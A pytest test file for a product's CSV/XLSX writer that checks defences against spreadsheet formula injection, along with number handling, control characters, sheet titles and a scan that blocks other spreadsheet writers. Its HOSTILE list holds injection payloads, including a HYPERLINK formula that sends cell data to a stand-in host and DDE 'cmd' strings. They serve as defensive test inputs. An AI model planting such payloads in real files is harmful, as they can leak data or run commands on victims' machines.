"""The product's one CSV and one XLSX writer: no cell becomes a live formula, no stored character breaks a
file, and nothing else in phoihop writes either format."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from phoihop import tabular

ROOT = Path(__file__).resolve().parents[1]

HOSTILE = [
    '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised_in_csv(text):
    line = "".join(tabular.write_csv(["cột"], [[text]]))
    cell = next(csv.reader(io.StringIO(line.removeprefix("\ufeff").split("\r\n", 1)[1])))[0]
    assert cell == "'" + text


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_text_with_a_quote_prefix_in_xlsx(text):
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(["cột"], [[text]]))).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == text  # the exact text, shown as text
    assert cell.quotePrefix  # and it stays text when someone edits the cell


def test_numbers_stay_numbers_and_numbers_as_text_are_left_alone():
    texts = ["-5", "+84", "0,5", "001075012345", "Nguyễn Văn Đức"]
    rows = [[-5, 2.5, Decimal("1.25"), *texts, None, date(2026, 1, 2)]]
    line = "".join(tabular.write_csv(list("abcdefghij"), rows)).split("\r\n")[1]
    assert next(csv.reader([line])) == ["-5", "2.5", "1.25", *texts, "", "02/01/2026"]
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(list("abcdefghij"), rows))).active
    values = [c.value for c in sheet[2]]
    assert values[:3] == [-5, 2.5, 1.25] and [c.data_type for c in sheet[2]][:3] == ["n", "n", "n"]
    assert values[3:8] == texts
    assert not any(c.quotePrefix for c in sheet[2])
    assert values[9] == "02/01/2026"


def test_error_codes_are_text():
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(["a"], [["#N/A"]]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "#N/A"


def test_control_characters_are_shown_not_fatal():
    rows = [["Hồ sơ\x01mật", "a\x7fb", "c\x85d", "dòng 1\ndòng 2\tcột"]]
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(["a", "b", "c", "d"], rows))).active
    assert [c.value for c in sheet[2]] == ["Hồ sơ\u2401mật", "a\u2421b", "c\ufffdd", "dòng 1\ndòng 2\tcột"]
    line = "".join(tabular.write_csv(["a", "b", "c", "d"], rows))
    assert "\x01" not in line and "Hồ sơ\u2401mật" in line


def test_sheet_titles_are_ones_excel_accepts():
    assert tabular.sheet_title("audit/events[1]:*?") == "audit_events_1____"
    assert tabular.sheet_title("x" * 40) == "x" * 31 and tabular.sheet_title("") == "data"


def _writes_spreadsheets(path: Path) -> list[str]:
    """Calls that write CSV or XLSX: csv.writer / csv.DictWriter,
    openpyxl's Workbook, tablib and xlsxwriter."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and getattr(node.value, "id", "") == "csv"
        ):
            found.append(f"csv.{node.attr}")
        elif (
            isinstance(node, ast.ImportFrom)
            and node.module in ("openpyxl", "openpyxl.workbook")
            and any(a.name == "Workbook" for a in node.names)
        ):
            found.append("openpyxl.Workbook")
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [n for n in names if n.split(".")[0] in ("tablib", "xlsxwriter")]
    return found


def test_nothing_else_writes_csv_or_xlsx():
    """Future exports get the neutralisation for free only if they cannot go around the writer."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if "tests" in rel.parts or rel.parts[0] == "migrations" or rel == Path("tabular.py"):
            continue
        offenders += [f"{rel}: {what}" for what in _writes_spreadsheets(path)]
    assert not offenders, "write CSV/XLSX through phoihop.tabular: " + "; ".join(offenders)
